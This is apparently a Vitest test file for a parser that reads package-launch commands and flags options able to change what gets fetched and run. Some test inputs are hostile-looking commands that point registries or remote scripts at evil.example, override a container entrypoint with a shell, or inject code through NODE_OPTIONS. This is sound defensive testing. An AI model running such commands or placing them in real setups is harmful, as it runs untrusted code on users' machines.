/** Commands that get what they start: what they name, and which of their options nobody can answer for. */
import { describe, expect, it } from 'vitest';
import { launchOf } from './launch.ts';

const read = (command: string) => launchOf(command.split(' '));

describe('a launch', () => {
  it.each([
    ['npx -y @acme/weather@1.4.2 --fast', 'npx', 'npm', '@acme/weather@1.4.2', ['--fast']],
    ['C:\\node\\npx.cmd weather@1.4.2', 'npx', 'npm', 'weather@1.4.2', []],
    ['npm exec -- weather@1.4.2 -y', 'npm exec', 'npm', 'weather@1.4.2', ['-y']],
    ['pnpm dlx weather@1.4.2', 'pnpm dlx', 'npm', 'weather@1.4.2', []],
    ['yarn dlx -q weather@1.4.2', 'yarn dlx', 'npm', 'weather@1.4.2', []],
    ['bunx weather@1.4.2', 'bunx', 'npm', 'weather@1.4.2', []],
    ['deno run -A npm:@acme/weather@1.4.2 --fast', 'deno run', 'npm', '@acme/weather@1.4.2', ['--fast']],
    ['uvx --python 3.12 weather@1.4.2', 'uvx', 'pypi', 'weather@1.4.2', []],
    ['uv tool run weather==1.4.2', 'uv tool run', 'pypi', 'weather==1.4.2', []],
    ['pipx run weather==1.4.2', 'pipx run', 'pypi', 'weather==1.4.2', []],
    ['docker run -it --rm -e KEY img@sha256:0 serve', 'docker run', 'oci', 'img@sha256:0', ['serve']],
    ['podman run --network=none img@sha256:0', 'podman run', 'oci', 'img@sha256:0', []],
  ] as const)('%s', (command, launcher, of, artifact, args) => {
    expect(read(command)).toEqual({ launcher, of, artifacts: [artifact], args });
  });

  it('may name the package apart, and then a program of it', () => {
    expect(read('npx -p @acme/weather@1.4.2 weather-http --fast')).toMatchObject({
      artifacts: ['@acme/weather@1.4.2'],
      program: 'weather-http',
      args: ['--fast'],
    });
    expect(read('uvx --from=acme-weather==1.4.2 weather')).toMatchObject({
      artifacts: ['acme-weather==1.4.2'],
      program: 'weather',
    });
    expect(read('deno run npm:@acme/weather@1.4.2/http')).toMatchObject({
      artifacts: ['@acme/weather@1.4.2'],
      program: 'http',
    });
  });

  it.each([
    ['npx --registry https://evil.example weather@1.4.2', '--registry'],
    ['npx -c evil', '-c'],
    ['npm exec --call=evil weather@1.4.2', '--call'],
    ['npx -y=no weather@1.4.2', '-y'],
    ['uvx --index-url https://evil.example weather@1.4.2', '--index-url'],
    ['uvx --with evil weather@1.4.2', '--with'],
    ['docker run --entrypoint sh img@sha256:0', '--entrypoint'],
    ['docker run -v ./evil:/app img@sha256:0', '-v'],
    ['docker run -e NODE_OPTIONS=--import=./evil.js img@sha256:0', '-e'],
    ['deno run --import-map=evil.json npm:weather@1.4.2', '--import-map'],
  ])('with an option that may change what is got names it: %s', (command, unknown) => {
    expect(read(command)).toMatchObject({ unknown });
  });

  it.each([
    ['dnx Acme.Weather@1.4.2', 'dnx'],
    ['nix run nixpkgs#weather', 'nix run'],
    ['nix develop', 'nix develop'],
    ['docker compose up', 'docker compose'],
    ['docker --host tcp://evil.example run img@sha256:0', 'docker --host'],
    ['npm --registry=https://evil.example exec weather@1.4.2', 'npm --registry=https://evil.example'],
    ['go run example.com/weather@v1.4.2', 'go run'],
    ['deno run https://evil.example/x.ts', 'deno run'],
    ['deno run jsr:@acme/weather@1.4.2', 'deno run'],
  ])('that nothing here can read says so: %s', (command, launcher) => {
    expect(read(command)).toMatchObject({ launcher });
    expect(read(command)?.of).toBeUndefined();
  });

  it.each([
    'node server.js',
    'python -m weather',
    'go run ./server',
    'deno run -A server.ts',
    'bun server.ts',
    'weather',
  ])('is none where a program starts that is there: %s', (command) => {
    expect(read(command)).toBeUndefined();
  });
});
